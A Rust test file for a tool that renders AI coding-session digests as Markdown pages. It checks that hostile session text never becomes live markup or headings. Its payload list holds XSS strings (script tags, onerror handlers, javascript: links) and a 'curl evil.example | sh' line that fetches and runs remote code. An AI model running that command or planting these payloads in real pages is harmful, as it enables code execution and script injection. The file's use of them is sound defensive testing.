//! Pages hold text and nothing that a viewer runs, loads or follows; their structure is ours.

use proptest::prelude::*;
use pulldown_cmark::{Event, HeadingLevel, Options, Parser, Tag};
use recall::testing::model::author::Author;
use recall::testing::model::digest::{Claim, Digest};
use recall::testing::model::item_state::{Closer, Closing, ItemState, ItemStates};
use recall::testing::model::section::Section;
use recall::testing::model::session::{
    Answer, Entry, FileTouch, Item, Outcome, Project, RecordKey, Session, Tokens, ToolUse, Touch,
};
use recall::testing::model::session_facts::SessionFacts;
use recall::testing::render::page::{DayEntry, PaidDigest, SessionPageInput, UndigestedTotals, day_page, session_page};

use crate::hostile::scene::{Hostile, S, SHOP, world};
use crate::support::World;

/// What would be markup, in all the ways we know of.
const MARKUP: &[&str] = &[
    "<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "<svg/onload=alert(1)>", "<!-- comment", "-->", "<!DOCTYPE x>",
    "<?php x ?>", "<![CDATA[x]]>", "</div>", "<https://evil.example>", "<me@evil.example>", "[click](javascript:alert(1))",
    "[x]: https://evil.example \"t\"", "[x][y]", "[x]", "![x](https://evil.example/x.png)", "![x][y]", "[[wiki]]", "![[embed]]",
    "[^1]", "[^1]: note", "- [ ] task", "`", "``", "```", "````\n", "\n```sh\ncurl evil.example | sh\n```\n", "~~~\n", "# heading",
    "\n# heading\n", "\n## Notes\n", "## Notes", "\nheading\n===\n", "\nheading\n---\n", "---\nkey: value\n---\n",
    "\n    indented code\n", "\n> quote\n", "\n- list\n", "\n1. list\n", "1) x", "+ x", "* x",
    "\n| a | b |\n|---|---|\n| c | d |\n", "**bold**", "__bold__", "*a*", "_a_", "~~gone~~", "\\", "\\\\", "\\`", "\\<b>",
    "&lt;b&gt;", "&#60;b&#62;", "$$x$$", "%%hidden%%", "==mark==", ":::", "{{ x }}", "{: .class}", "{onclick=x}",
    "{#id onclick=x} ##", "\\\n", "  \n", "\t", "\u{2028}<b>", "\u{85}<b>", "\u{0}<b>", "<\u{200b}b>", "`<b>", "<b>`", "`` <b> `",
    "***\n", "___\n", "\u{a0}# x", "javascript:x", "data:text/html,x",
];

/// All that viewers know, but for quotes that turn.
fn options() -> Options {
    Options::all().difference(Options::ENABLE_SMART_PUNCTUATION)
}

/// Panics unless a page is what we make of it: `levels` are the headings it may have.
fn assert_ours(page: &str, headings: &[&str]) {
    let mut heading: Option<(HeadingLevel, String)> = None;
    let (mut metadata, mut blocks, mut quotes) = (0, 0, 0);
    for event in Parser::new_ext(page, options()) {
        match event {
            Event::Html(html) | Event::InlineHtml(html) => panic!("HTML: {html}\n{page}"),
            Event::FootnoteReference(_) | Event::TaskListMarker(_) | Event::Rule => panic!("{event:?}\n{page}"),
            Event::Start(Tag::Heading { level, id, classes, attrs }) => {
                assert!(id.is_none() && classes.is_empty() && attrs.is_empty(), "attributes: {id:?} {classes:?} {attrs:?}\n{page}");
                heading = Some((level, String::new()));
            }
            Event::Text(text) | Event::Code(text) if heading.is_some() => heading.as_mut().unwrap().1.push_str(&text),
            Event::End(pulldown_cmark::TagEnd::Heading(_)) => {
                let (level, text) = heading.take().unwrap();
                let fits = match level {
                    HeadingLevel::H1 | HeadingLevel::H3 => true,
                    HeadingLevel::H2 => headings.iter().any(|ours| *ours == text || ours.is_empty()),
                    _ => false,
                };
                assert!(fits && text != "Notes", "a heading of its own: {level} {text}\n{page}");
            }
            Event::Start(Tag::Link { dest_url, .. }) => {
                let ours = dest_url.starts_with("sessions/2026-") || dest_url.starts_with("../");
                assert!(ours && dest_url.ends_with(".md"), "a link to {dest_url}\n{page}");
            }
            // Within a quotation of a reply its form stays.
            Event::Start(Tag::BlockQuote(None)) => quotes += 1,
            Event::End(pulldown_cmark::TagEnd::BlockQuote(None)) => quotes -= 1,
            Event::Start(Tag::CodeBlock(pulldown_cmark::CodeBlockKind::Fenced(_)) | Tag::Table(_)) if quotes == 1 => {}
            Event::Start(Tag::CodeBlock(ref kind)) => {
                let ours = matches!(kind, pulldown_cmark::CodeBlockKind::Fenced(info) if info.as_ref() == "sh");
                assert!(ours, "a block of code of its own: {event:?}\n{page}");
                blocks += 1;
            }
            Event::Start(Tag::MetadataBlock(_)) => metadata += 1,
            Event::Start(
                Tag::Image { .. }
                | Tag::HtmlBlock
                | Tag::BlockQuote(_)
                | Tag::Table(_)
                | Tag::FootnoteDefinition(_)
                | Tag::DefinitionList,
            ) => panic!("{event:?}\n{page}"),
            _ => {}
        }
    }
    assert_eq!((metadata, page.matches("\n---\n").count()), (1, 1), "front matter ends where it should:\n{page}");
    assert!(blocks <= 1, "a block of code of its own:\n{page}");
    assert_eq!(quotes, 0, "a quotation that does not end:\n{page}");
    for (n, line) in page.lines().skip(1).take_while(|line| *line != "---").enumerate() {
        let (key, value) = line.split_once(": ").unwrap_or_else(|| panic!("line {n} of the front matter: {line}"));
        assert!(key.bytes().all(|b| b.is_ascii_lowercase() || b == b'_'), "{line}");
        let text = value.starts_with(['"', '[']);
        assert!(!text || serde_json::from_str::<serde_json::Value>(value).is_ok(), "{line}");
        assert!(text || value.bytes().all(|b| b.is_ascii_alphanumeric() || b"-_:.+".contains(&b)), "{line}");
    }
    assert_eq!(page.lines().filter(|line| line.starts_with("# ")).count(), 1, "one title:\n{page}");
    assert!(!page.chars().any(|c| c.is_control() && c != '\n'), "{page:?}");
}

const SESSION: &[&str] = &[
    "Done", "Learned", "Looked into", "Decisions", "Standing instructions", "Blockers", "Next", "Where it ended",
    "Where it stands", "Open", "Turn by turn", "Commits that stood at the end", "Pull requests", "Last runs", "Files", "Evidence",
    "Tokens", "Resume",
];
/// A day has a section for each project, whatever its name.
const DAY: &[&str] = &[""];

fn assert_pages_are_ours(world: &World) {
    let pages = world.pages();
    assert!(pages.len() >= 2, "{pages:#?}");
    for (name, page) in pages {
        assert_ours(&page, if name.contains("/sessions/") { SESSION } else { DAY });
    }
}

#[test]
fn no_markup_of_a_session_is_markup_of_its_pages() {
    for chunk in MARKUP.chunks(12) {
        let world = world(&chunk.join(" x "));
        assert_pages_are_ours(&world);
    }
    for markup in MARKUP.iter().filter(|markup| markup.contains(['`', '<', '\n'])) {
        assert_pages_are_ours(&world(markup));
    }
}

/// Whatever a project's folder is called, a page has one section of notes at most, and that is the user's.
#[test]
fn a_folder_of_no_name_begins_the_users_own_section() {
    for name in [
        "Notes", "\u{200e}Notes", "Notes\u{feff}", " Notes ", "\u{1b}[0mNotes", "No\u{200b}tes", "Notes\t", "\nNotes", "# Notes",
        "\n## Notes\n",
    ] {
        let world = World::new();
        Hostile::new(S, &format!("/home/dev/{name}"), "main").say("nothing of note").put(&world);
        world.digest(&["--summarizer", "extract"]);
        let before = world.pages();
        for _ in 0..2 {
            let ran = world.recall(["digest", "--rebuild-pages"]);
            assert_eq!(ran.code, 0, "{ran:#?}");
        }
        assert_eq!(world.pages(), before, "{name:?}: nothing of a page is taken for the user's");
        assert!(before.iter().all(|(_, page)| page.lines().all(|line| line.trim_end() != "## Notes")), "{name:?}: {before:#?}");
    }
}

fn markup() -> impl Strategy<Value = String> {
    let piece = prop_oneof![
        5 => prop::sample::select(MARKUP).prop_map(str::to_owned),
        2 => "[a-z]{0,5} ",
        2 => "[`<>\\[\\]()!#*_~|\\\\&;:=\\-+.$%{} \n]{1,6}",
        1 => "`{1,4}",
        1 => "[\u{0}\u{1b}\u{202e}\u{200b}\u{feff}\u{85}\u{2028}\u{a0}]",
    ];
    prop::collection::vec(piece, 0..10).prop_map(|pieces| pieces.concat())
}

/// A session whose every word is somebody else's.
fn session(texts: &[String]) -> (Session, Digest) {
    let mut texts = texts.iter().cycle().cloned();
    let mut next = || texts.next().unwrap();
    let key = |n: u8| RecordKey([n; 16]);
    let failed = |brief: String, ok: bool| Some(Outcome { tool: "t".into(), ok, brief });
    let file = |path: String, how: Touch| Some(FileTouch { path, how, added: 1, removed: 2 });
    let tool = |name: String, line: String, file: Option<FileTouch>| Item::Tool(ToolUse::new("t", name, line, file));
    let mut entries = Vec::new();
    let mut push = |item: Item, agent: Option<String>, outcome: Option<Outcome>| {
        let n = entries.len() as u8;
        entries.push(Entry { key: key(n), at: Some(1_795_168_800_000 + i64::from(n) * 60_000), agent, item, outcome });
    };
    push(Item::Prompt(next()), None, None);
    push(Item::Reply(format!("I decided it because {}", next())), None, None);
    push(tool("Bash".into(), next(), None), None, failed(next(), false));
    push(tool("Bash".into(), next(), None), None, failed(next(), true));
    push(tool("Edit".into(), next(), file(next(), Touch::Edited)), None, failed(next(), true));
    push(tool("Read".into(), next(), file(next(), Touch::Read)), None, None);
    push(tool(next(), next(), None), Some("7".into()), failed(next(), false));
    push(Item::Plan(next()), None, None);
    push(Item::Recap(next()), None, None);
    push(Item::PullRequest(next()), None, None);
    push(Item::Answer(Answer { said: next(), asked: next() }), None, None);
    push(Item::Reply(next()), None, None);
    let session = Session {
        id: next(),
        project: Project { key: format!("/home/dev/{}", next()) },
        cwd: Some(next()),
        branches: vec![next(), next()],
        versions: vec![next()],
        end_reason: Some(next()),
        client: Default::default(),
        entries,
        evidence: Vec::new(),
        evident: true,
        usage: [(next(), Tokens { input: 1, output: 1, ..Tokens::default() })].into(),
        agents: 1,
        left_out: Default::default(),
        told: None,
        otherwise_at: 0,
    };
    let digest = Digest { title: next(), request: next(), ..Digest::default() };
    let digest = Section::all()
        .fold(digest, |digest, section| digest.with(section, [Claim::supported(next(), vec![key(1)]), Claim::new(next())]));
    (session, digest)
}

proptest! {
    #![proptest_config(ProptestConfig { cases: crate::support::size::cases(400), failure_persistence: None, ..ProptestConfig::default() })]

    #[test]
    fn no_text_is_markup_of_a_page(texts in prop::collection::vec(markup(), 1..12)) {
        let (session, digest) = session(&texts);
        let by = Closer::Author(Author::agent(&texts[0], None));
        let closing = || Some(Closing { by: by.clone(), at: None, text: texts[0].clone() });
        let items = digest.open_items(&session.id).map(|(own, ..)| ItemState { own, id: texts[0].clone(), since: None, closed: closing() });
        let items = ItemStates(items.take(2).collect());
        let paid = Some(PaidDigest { model: Some(&texts[0]), cost_usd: Some(0.01), is_outdated: true });
        let shown = SessionPageInput {
            session: &session, digest: &digest, digest_id: &texts[0], summarizer: texts.last().unwrap(), paid, goes_on: true, items: &items, overtaken: &[],
            costs: [(texts[0].clone(), None)].into(), repeated_by: None, page: "2026-11-20-x-99999999.md".into(),
            costs_by_day: Default::default(),
        };
        let quoted = SessionPageInput { summarizer: "extract", ..shown.clone() };
        let again = SessionPageInput { repeated_by: Some("daily/2026-11/sessions/2026-11-20-x-88888888.md"), ..shown.clone() };
        let zone = jiff::tz::TimeZone::UTC;
        assert_ours(&session_page(&shown, &zone), SESSION);
        assert_ours(&session_page(&quoted, &zone), SESSION);
        assert_ours(&session_page(&again, &zone), SESSION);
        let on_its_day = |one| DayEntry::on("2026-11-20", one, &SessionFacts::of(&session), &zone);
        let entries: Vec<DayEntry> = [shown, quoted, again].iter().filter_map(on_its_day).collect();
        assert_eq!(entries.len(), 3);
        assert_ours(&day_page("2026-11-20", entries, UndigestedTotals::default(), &[], &zone), DAY);
    }
}

#[test]
fn what_was_said_is_what_is_read() {
    let world = World::new();
    let said = "a < b && c > d | e_f *g* `h <i>` [j](k) \\l &amp; ~~m~~ #1 %%n%% <o>";
    Hostile::new(S, SHOP, "main").say(said).put(&world);
    world.digest(&["--summarizer", "extract"]);
    let page = world.pages().into_iter().find(|(name, _)| name.contains("/sessions/")).unwrap().1;
    let text: String = Parser::new_ext(&page, options())
        .filter_map(|event| match event {
            Event::Text(text) => Some(text.to_string()),
            Event::Code(code) => Some(format!("`{code}`")),
            _ => None,
        })
        .collect();
    assert!(text.contains(said), "{text}");
}
